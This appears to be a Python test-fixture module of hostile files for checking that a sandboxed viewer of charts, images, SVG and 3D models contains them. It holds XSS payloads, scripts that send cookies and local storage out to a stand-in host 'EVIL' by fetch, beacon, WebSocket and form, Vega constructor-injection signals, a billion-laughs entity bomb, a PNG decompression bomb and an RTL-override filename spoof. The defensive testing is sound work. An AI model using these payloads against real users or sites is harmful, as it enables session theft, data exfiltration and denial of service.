"""Files that a page must not fall for: what runs, what reaches out, what is too much."""

import json
import struct
import zlib
from base64 import b64encode

# What every attempt to get at the page would do.
ATTEMPT = """
  const reach = [
    () => { parent.document.title = 'owned'; },
    () => { top.document.body.innerHTML = 'owned'; },
    () => { top.__owned = 1; },
    () => { top.location = 'http://EVIL/top'; },
    () => { parent.location.replace('http://EVIL/parent'); },
    () => { window.open('http://EVIL/open'); },
    () => { parent.postMessage({said: document.cookie}, '*'); },
    () => { parent.postMessage({said: localStorage.getItem('theme')}, '*'); },
    () => fetch('/api/v1/me').then(() => parent.postMessage({said: 'fetched'}, '*')),
    () => fetch('http://EVIL/fetch'),
    () => { new Image().src = 'http://EVIL/image'; },
    () => { navigator.sendBeacon('http://EVIL/beacon', 'x'); },
    () => { new WebSocket('ws://EVIL/socket'); },
    () => { for (let n = 0; n < 3; n++) { alert('a'); confirm('b'); prompt('c'); print(); } },
    () => document.documentElement.requestFullscreen(),
    () => { const f = document.createElement('form'); f.action = 'http://EVIL/form';
            f.method = 'post'; document.body.append(f); f.submit(); },
    () => { const a = document.createElement('a'); a.href = 'http://EVIL/link';
            a.target = '_top'; document.body.append(a); a.click(); },
  ];
  for (const one of reach) {
    try { Promise.resolve(one()).catch(() => 0); } catch { /* refused */ }
  }
"""
HTML = f"""<!doctype html><meta charset="utf-8"><p>hostile document</p>
<iframe src="/api/v1/me"></iframe><iframe src="http://EVIL/frame"></iframe>
<link rel="stylesheet" href="http://EVIL/style"><base href="http://EVIL/base/">
<script src="http://EVIL/script"></script><script>{ATTEMPT}</script>"""
REFRESH = """<meta http-equiv="refresh" content="0;url=http://EVIL/refresh"><p>gone</p>"""
CURIOUS = """<p id="told">nothing</p><script>
  const told = [String(self.origin)];
  try { told.push(document.cookie, 'cookie'); } catch { told.push('no cookie'); }
  const got = (what, url) => fetch(url).then(() => what, () => `no ${what}`);
  Promise.all([got('page', '/api/v1/me'), got('host', 'http://EVIL/curious')]).then((all) => {
    document.getElementById('told').textContent = [...told, ...all].join(', ');
  });
</script>"""
ENDLESS = """<p>endless</p><script>while (true) {}</script>"""

NAMESPACES = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
SVG = f"""<svg {NAMESPACES} width="40" height="30" onload="top.__owned = 1">
<script>{ATTEMPT.replace("<", "&lt;").replace("&&", "&amp;&amp;").replace("=>", "=&gt;")}</script>
<image xlink:href="http://EVIL/svg-image" width="9" height="9"/>
<use xlink:href="http://EVIL/svg-use#a"/>
<style>@import url(http://EVIL/svg-style); rect {{ fill: url(http://EVIL/f) }}</style>
<foreignObject width="40" height="30"><body xmlns="http://www.w3.org/1999/xhtml">
<img src="x" onerror="top.__owned = 1"/><iframe src="http://EVIL/svg-frame"/></body>
</foreignObject><a xlink:href="javascript:top.__owned=1"><rect width="40" height="30"/></a></svg>"""
LAUGHS = (
    '<!DOCTYPE svg [<!ENTITY a0 "ha">'
    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
    + f"]><svg {NAMESPACES}><text>&a11;</text></svg>"
)


def _chunk(kind: bytes, body: bytes) -> bytes:
    checked = kind + body
    return struct.pack(">I", len(body)) + checked + struct.pack(">I", zlib.crc32(checked))


def png(width: int, height: int, data: bytes) -> bytes:
    """Return a picture of black and white."""
    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    parts = (_chunk(b"IHDR", head), _chunk(b"IDAT", data), _chunk(b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts)


def _zeros(size: int, times: int) -> bytes:
    """Compress zeros in no time: a part of them is compressed, and what comes of it repeated."""
    stream, part = zlib.compressobj(), bytes(size)
    first = stream.compress(part) + stream.flush(zlib.Z_FULL_FLUSH)
    again = stream.compress(part) + stream.flush(zlib.Z_FULL_FLUSH)
    # All bytes zero: one sum is 1, the other how many there are.
    total = struct.pack(">I", (size * times % 65521) << 16 | 1)
    return first + again * (times - 1) + stream.flush()[:-4] + total


WHITE = png(40, 30, zlib.compress((b"\0" + b"\xff" * 5) * 30))
BOMB = png(60_000, 60_000, _zeros(7501 * 600, 100))

MARKUP = '<img src=x onerror="top.__owned=1"><script>top.__owned=1</script>'
SCRIPT_LINK = '<a href="javascript:top.__owned=1">click</a>'
LONG = "n" * 5000
BIDI = "\u202egnp.exe\u2066\u0000"

PLOTLY = json.dumps(
    {
        "data": [
            {
                "type": "scatter",
                "x": [1, 2],
                "y": [3, 4],
                "name": MARKUP,
                "text": [SCRIPT_LINK, MARKUP],
                "mode": "markers+text",
            }
        ],
        "layout": {
            "title": {"text": MARKUP + SCRIPT_LINK},
            "images": [{"source": "http://EVIL/plotly", "x": 0, "y": 0}],
            "annotations": [{"text": SCRIPT_LINK, "x": 1, "y": 3}],
            "mapbox": {"style": "http://EVIL/mapbox"},
        },
    }
)
DEEP = 100_000
DEEP_PLOTLY = '{"data": [{"type": "scatter", "x": ' + "[" * DEEP + "]" * DEEP + "}]}"
DEEP_TABLE = '{"columns": ["a"], "data": [[' + "[" * DEEP + "]" * DEEP + "]]}"
DEEP_BOXES = '{"box_data": ' + "[" * DEEP + "]" * DEEP + "}"

GLTF = {
    "asset": {"version": "2.0"},
    "scene": 0,
    "scenes": [{"nodes": [0]}],
    "nodes": [{"mesh": 0}],
    "meshes": [{"primitives": [{"attributes": {"POSITION": 0}}]}],
    "bufferViews": [{"buffer": 0, "byteLength": 36}],
    "accessors": [{"bufferView": 0, "componentType": 5126, "count": 3, "type": "VEC3"}],
}
CORNERS = b64encode(struct.pack("<9f", 0, 0, 0, 1, 0, 0, 0, 1, 0)).decode()
EMBEDDED = GLTF | {
    "buffers": [{"uri": f"data:application/octet-stream;base64,{CORNERS}", "byteLength": 36}],
}
REACHING = GLTF | {
    "buffers": [{"uri": "http://EVIL/buffer", "byteLength": 36}],
    "images": [{"uri": "/api/v1/me"}],
}
MANY = 1 << 31
CROWDED = GLTF | {
    "buffers": [{"byteLength": 36}],
    "accessors": [{"componentType": 5126, "count": MANY, "type": "VEC3"}],
}
STL = b"claims".ljust(80) + struct.pack("<I", MANY - 1) + b"\0" * 50
PLY = (
    b"ply\nformat binary_little_endian 1.0\n"
    + f"element vertex {MANY}\n".encode()
    + b"property float x\nproperty float y\nproperty float z\nend_header\n\0\0\0\0"
)
OBJ = "v 0 0 0\n" + "f 1 2147483647 -2147483648\n" * 3
GARBAGE = bytes(range(256)) * 64

VEGA = {
    "$schema": "https://vega.github.io/schema/vega-lite/v5.json",
    "data": {"name": "wandb"},
    "usermeta": {"embedOptions": {"actions": True, "loader": {"baseURL": "http://EVIL"}}},
    "title": {"text": MARKUP},
    "layer": [
        {"mark": "point", "encoding": {"x": {"field": "a"}, "href": {"value": "javascript:1"}}},
        {"mark": "image", "encoding": {"url": {"value": "http://EVIL/vega-image"}}},
    ],
}
VEGA_LOADS = VEGA | {"data": {"url": "http://EVIL/vega-data"}}
VEGA_RUNS = {
    "$schema": "https://vega.github.io/schema/vega/v5.json",
    "data": [{"name": "wandb"}],
    "signals": [
        {"name": "s", "update": "event.constructor.constructor('top.__owned=1')()"},
        {"name": "t", "update": "toString.constructor('top.__owned=1')()"},
    ],
    "marks": [{"type": "text", "encode": {"enter": {"text": {"signal": "s"}}}}],
}
